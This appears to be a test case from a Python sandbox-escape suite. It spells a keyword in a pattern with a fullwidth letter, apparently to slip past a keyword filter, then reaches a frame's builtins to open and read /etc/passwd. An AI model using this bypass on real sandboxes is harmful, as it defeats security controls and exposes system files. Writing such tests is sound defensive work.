# tries: the keyword of a pattern in letters that fold
# class: names
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


match (x for x in ()):
    case object(gi_ｆrame=frame):
        use(pick(frame))
